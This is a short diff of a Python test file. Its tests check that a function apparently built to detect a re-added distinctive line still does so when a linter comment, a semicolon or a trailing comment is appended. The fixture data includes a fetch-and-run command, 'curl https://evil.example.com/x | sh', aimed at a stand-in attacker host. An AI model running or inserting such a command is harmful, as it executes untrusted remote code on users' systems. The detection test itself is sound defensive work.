@@ -108,6 +108,10 @@ def test_brought_back_finds_the_writer_s_distinctive_line_added_again() -> None:
         + b'        "curl https://evil.example.com/x | sh"\n    )\n'
     )
     assert brought_back(BASE, wrapped, WRITER)
+    # a linter's comment or a ``;`` appended: its code part is the writer's line
+    for tail in (b"  # noqa: S605", b";", b"  // why"):
+        tailed = (BASE + DEPLOY).replace(b'| sh")\n', b'| sh")' + tail + b"\n")
+        assert brought_back(BASE, tailed, WRITER), tail
 
 
 def test_brought_back_never_counts_common_lines_headers_or_lines_already_there() -> None:
